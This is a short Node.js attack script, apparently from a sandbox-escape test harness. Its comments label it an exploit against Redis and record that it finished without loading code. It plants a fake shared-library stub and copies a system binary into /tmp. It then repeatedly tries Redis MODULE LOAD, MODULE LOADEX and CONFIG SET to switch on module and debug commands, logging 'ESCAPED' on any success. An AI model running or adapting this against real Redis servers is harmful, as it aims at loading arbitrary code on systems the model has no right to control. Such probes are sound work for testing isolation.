// exploit: has its Redis load code of its own: as a module, and by the settings that would allow it
// outcome: finished
// says: no code was loaded
// job: {"services":["redis"]}
const { copyFileSync, writeFileSync } = require('node:fs')
const { createClient } = require('redis')

async function attack() {
  const client = await createClient({ url: process.env.REDIS_URL }).on('error', () => {}).connect()
  const run = (...words) => client.sendCommand(words).catch((error) => error)
  writeFileSync('/app/module.so', '\x7fELF')
  copyFileSync('/bin/prlimit', '/tmp/module.so')
  for (const path of ['/app/module.so', '/tmp/module.so', '/bin/prlimit', '/bin/redis-server', '/lib/x86_64-linux-gnu/libc.so.6']) {
    if (!((await run('MODULE', 'LOAD', path)) instanceof Error)) console.log('ESCAPED', path)
    if (!((await run('MODULE', 'LOADEX', path)) instanceof Error)) console.log('ESCAPED', path)
  }
  for (const name of ['enable-module-command', 'enable-debug-command', 'loadmodule']) {
    if (!((await run('CONFIG', 'SET', name, 'yes')) instanceof Error)) console.log('ESCAPED', name)
  }
  console.log('no code was loaded')
  client.destroy()
}
attack()
